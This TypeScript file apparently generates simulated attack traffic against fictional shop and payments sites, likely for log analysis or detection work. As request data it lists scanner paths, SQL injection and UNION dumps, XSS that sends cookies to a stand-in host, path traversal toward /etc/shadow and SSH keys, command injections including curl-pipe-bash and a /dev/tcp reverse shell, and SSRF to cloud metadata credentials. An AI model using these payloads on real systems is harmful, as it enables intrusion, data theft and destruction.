/** One attacker a kind, each working through variations of one idea; and scanners, invited or not. */

/* oxlint-disable no-script-url -- what attackers type, never followed */

import { createRandom, type Random } from '../random.ts';
import { attackerAddress, AUTHORISED_SCANNER_IP, BROWSERS } from './cast.ts';
import { callAll, get, post, type Caller, type StoryRequest, type Visit } from './story-request.ts';

const SECOND_MS = 1_000;

/** Every kind of injection and scanning once, spread over the first minutes after `startMs`. */
export function injectionTraffic(seed: number, startMs: number): StoryRequest[] {
  const stream = (name: string): Random => createRandom(seed, `hostile/${name}`);
  const sqlRandom = stream('sql_injection');
  return [
    ...callAll(
      attacker('scanner', 'shop', startMs + 5 * SECOND_MS, 3 * SECOND_MS, NIKTO),
      SCANNED_PATHS.map((path) => get(path)),
      stream('scanner'),
    ),
    ...callAll(
      attacker('sql_injection', 'shop', startMs + 40 * SECOND_MS, 6 * SECOND_MS, BROWSERS[2]),
      sqlInShop(sqlRandom),
      sqlRandom,
    ),
    ...callAll(
      attacker('sql_injection', 'payments', startMs + 110 * SECOND_MS, 8 * SECOND_MS, SQLMAP),
      sqlInPayments(),
      sqlRandom,
    ),
    ...callAll(
      attacker('xss', 'shop', startMs + 60 * SECOND_MS, 11 * SECOND_MS, BROWSERS[0]),
      scripts(),
      stream('xss'),
    ),
    ...callAll(
      attacker('path_traversal', 'shop', startMs + 75 * SECOND_MS, 8 * SECOND_MS, CURL),
      traversals(),
      stream('path_traversal'),
    ),
    ...callAll(
      attacker('command_injection', 'payments', startMs + 90 * SECOND_MS, 12 * SECOND_MS, PYTHON),
      commands(),
      stream('command_injection'),
    ),
    ...callAll(
      attacker('ssrf', 'payments', startMs + 100 * SECOND_MS, 12 * SECOND_MS, PYTHON),
      internalUrls(),
      stream('ssrf'),
    ),
    ...callAll(
      {
        phase: 'attack',
        kind: 'authorised_scan',
        site: 'shopStaging',
        clientIp: AUTHORISED_SCANNER_IP,
        userAgent: NUCLEI,
        startMs: startMs + 30 * SECOND_MS,
        everyMs: 4 * SECOND_MS,
      },
      [
        ...SCANNED_PATHS.slice(0, 20).map((path) => get(path)),
        ...sqlInShop(stream('authorised_scan')).slice(0, 8),
      ],
      stream('authorised_scan'),
    ),
  ];
}

/** A handful from each attacker, later. Some have changed their tool, none their address. */
export function returningInjections(seed: number, startMs: number): StoryRequest[] {
  const random = createRandom(seed, 'hostile/return');
  const again = (
    kind: HostileKind,
    site: Caller['site'],
    userAgent: string,
    visits: readonly Visit[],
  ): StoryRequest[] =>
    callAll(
      {
        ...attacker(kind, site, startMs + random.next() * 20 * SECOND_MS, 7 * SECOND_MS, userAgent),
        phase: 'return',
      },
      visits.slice(0, 6),
      random,
    );
  return [
    ...again(
      'scanner',
      'shop',
      BROWSERS[0],
      SCANNED_PATHS.map((path) => get(path)),
    ),
    ...again('sql_injection', 'shop', BROWSERS[2], sqlInShop(random)),
    ...again('xss', 'shop', BROWSERS[0], scripts()),
    ...again('path_traversal', 'shop', CURL, traversals()),
    ...again('command_injection', 'payments', PYTHON, commands()),
    ...again('ssrf', 'payments', PYTHON, internalUrls()),
  ];
}

type HostileKind = Parameters<typeof attackerAddress>[0];

function attacker(
  kind: HostileKind,
  site: Caller['site'],
  startMs: number,
  everyMs: number,
  userAgent: string,
): Caller {
  return { phase: 'attack', kind, site, clientIp: attackerAddress(kind), userAgent, startMs, everyMs };
}

const NIKTO = 'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)';
const SQLMAP = 'sqlmap/1.8.4#stable (https://sqlmap.org)';
const NUCLEI = 'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)';
const CURL = 'curl/8.9.1';
const PYTHON = 'python-requests/2.32.3';

const SCANNED_PATHS: readonly string[] = [
  '/.env',
  '/.git/config',
  '/.git/HEAD',
  '/.aws/credentials',
  '/wp-login.php',
  '/wp-config.php',
  '/phpmyadmin/index.php',
  '/actuator/env',
  '/actuator/heapdump',
  '/server-status',
  '/backup.zip',
  '/backup.sql',
  '/dump.tar.gz',
  '/database.sql',
  '/admin',
  '/administrator',
  '/console',
  '/cgi-bin/test',
  '/test',
  '/old',
  '/login.aspx',
  '/robots.txt',
  '/xmlrpc.php',
  '/api/v1/users',
  '/api/swagger.json',
  '/graphql',
  '/metrics',
  '/debug/vars',
  '/.DS_Store',
  '/.svn/entries',
  '/config.json',
  '/install',
  '/setup',
  '/status',
  '/private',
  '/uploads',
  '/tmp',
  '/manager/html',
  '/solr/',
  '/jenkins/',
  '/crossdomain.xml',
  '/elmah.axd',
  '/trace.axd',
  '/vendor/composer.json',
  '/telescope',
  '/horizon',
  '/_profiler',
];

const TABLES = ['customers', 'users', 'cards', 'orders', 'sessions'] as const;

function sqlInShop(random: Random): Visit[] {
  const probes = [
    "'",
    "mug' AND '1'='1",
    "mug' AND '1'='2",
    "' OR 1=1 --",
    "' OR 'a'='a",
    "mug') OR ('1'='1",
    "1' ORDER BY 10 --",
    "mug' AND pg_sleep(5) --",
    "'; DROP TABLE reviews --",
    "mug' AND (SELECT COUNT(*) FROM information_schema.tables) > 0 --",
  ];
  const dumps = Array.from({ length: 16 }, (_, columns) => {
    const nulls = Array.from({ length: (columns % 6) + 1 }, () => 'NULL').join(',');
    return `x' UNION ALL SELECT ${nulls},email FROM ${random.pick(TABLES)} --`;
  });
  return [
    ...[...probes, ...dumps].map((q) => get('/search', { q })),
    post('/login', { login: "admin' --", password: 'x' }),
    post('/login', { login: "' OR 1=1 --", password: 'x' }),
  ];
}

/** Here the value would have reached the statement. */
function sqlInPayments(): Visit[] {
  return [
    'date; SELECT pg_sleep(5)',
    '(SELECT CASE WHEN (1=1) THEN date ELSE total END)',
    '(SELECT CASE WHEN (1=2) THEN date ELSE total END)',
    "date; UPDATE invoices SET total = 0 WHERE customer = 'x'",
    '(SELECT card_number FROM cards LIMIT 1)',
    'date; DROP TABLE invoices',
  ].map((sort) => get('/invoices', { sort }));
}

function scripts(): Visit[] {
  const payloads = [
    '<script>alert(1)</script>',
    '"><script src=//198.51.100.9/x.js></script>',
    '<img src=x onerror=alert(document.domain)>',
    '<svg/onload=fetch("//198.51.100.9/"+document.cookie)>',
    '<details open ontoggle=alert(1)>',
    'javascript:alert(document.cookie)',
    '<iframe src=//198.51.100.9>',
    '<body onpageshow=alert(1)>',
    '<a href="javascript:alert(1)">gift</a>',
  ];
  return [
    ...payloads.map((q) => get('/search', { q })),
    ...payloads.slice(1).map((text) => post('/reviews', { product: 'blue-kettle', author: 'guest', text })),
  ];
}

function traversals(): Visit[] {
  const names = [
    '../../../../etc/passwd',
    '../../../../etc/shadow',
    '../../../../proc/self/environ',
    '../../../../root/.ssh/id_rsa',
    '..\\..\\..\\windows\\win.ini',
    '/etc/passwd',
    '../config.json',
    'kettle/../../../../etc/hosts',
  ];
  return [
    ...names.map((name) => get('/manuals', { name })),
    get('/images/..%2f..%2f..%2fetc%2fpasswd'),
    get('/images/%2e%2e/%2e%2e/%2e%2e/etc/passwd'),
    get('/images/..%252f..%252f..%252fetc%252fpasswd'),
    get('/docs/../../../../etc/passwd'),
    get('/images/....//....//etc/passwd'),
    get('/manuals?name=..%5c..%5c..%5cwindows%5cwin.ini'),
    ...names.slice(0, 6).map((name) => get('/manuals', { name: `${name}%00.pdf` })),
  ];
}

function commands(): Visit[] {
  return [
    '127.0.0.1; id',
    '127.0.0.1; cat /etc/passwd',
    'example.com && whoami',
    'example.com | uname -a',
    '$(curl http://198.51.100.9/p.sh)',
    '`id`',
    'x; curl -s http://198.51.100.9/p.sh | bash -',
    'x; bash -i >& /dev/tcp/198.51.100.9/4444 0>&1',
    'x;cat${IFS}/etc/passwd',
    'x || sleep 10',
    'x; wget http://198.51.100.9/m -O /tmp/m',
    'x; python3 -c "import os; os.system(\'id\')"',
  ].map((host) => get('/diagnostics/ping', { host }));
}

function internalUrls(): Visit[] {
  return [
    'http://169.254.169.254/latest/meta-data/',
    'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
    'http://metadata.google.internal/computeMetadata/v1/',
    'http://localhost:8080/admin',
    'http://127.0.0.1:2375/containers/json',
    'http://2130706433/',
    'http://[::1]:9200/_cat/indices',
    'http://10.0.0.5:6379/',
    'http://192.168.0.1/',
    'gopher://10.0.0.5:6379/_INFO',
    'file:///etc/passwd',
    'http://user@127.0.0.1:22/',
  ].map((url) => post('/webhooks/preview', { url }));
}
